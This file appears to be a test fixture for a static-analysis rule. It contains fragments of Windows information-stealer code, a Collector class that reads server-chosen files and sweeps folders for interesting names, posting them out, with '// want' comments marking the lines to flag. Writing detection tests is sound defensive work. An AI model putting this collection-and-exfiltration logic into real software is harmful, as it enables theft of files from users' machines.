// Reading what was asked for, and sweeping folders for interesting names.
#include "stealer.h"

std::vector<BYTE> Collector::Fetch(const std::wstring &path)
{
    std::vector<BYTE> data;
    HANDLE f = CreateFileW(path.c_str(), GENERIC_READ, FILE_SHARE_READ, NULL, OPEN_EXISTING, 0, NULL); // want "remote-collection/server-chosen-path"
    if (f == INVALID_HANDLE_VALUE)
        return data;
    data.resize(GetFileSize(f, NULL));
    DWORD got = 0;
    ReadFile(f, &data[0], (DWORD)data.size(), &got, NULL);
    CloseHandle(f);
    return data;
}

void Collector::SweepNamed(const std::wstring &pattern)
{
    WIN32_FIND_DATAW fd;
    HANDLE h = FindFirstFileW(pattern.c_str(), &fd); // want "remote-collection/server-chosen-path"
    if (h == INVALID_HANDLE_VALUE)
        return;
    do {
        std::wstring name = fd.cFileName;
        m_out->Post(name, Fetch(name));
    } while (FindNextFileW(h, &fd));
    FindClose(h);
}

void Collector::Sweep(const std::wstring &root)
{
    WIN32_FIND_DATAW fd;
    HANDLE h = FindFirstFileW((root + L"\\*").c_str(), &fd); // ok: a constant root chosen by the caller
    if (h == INVALID_HANDLE_VALUE)
        return;
    do {
        if (IsInteresting(fd.cFileName)) {
            std::wstring full = root + L"\\" + fd.cFileName;
            std::vector<BYTE> name((const BYTE *)fd.cFileName, (const BYTE *)(fd.cFileName + wcslen(fd.cFileName)));
            m_out->Post(full, name);
        }
    } while (FindNextFileW(h, &fd));
    FindClose(h);
}
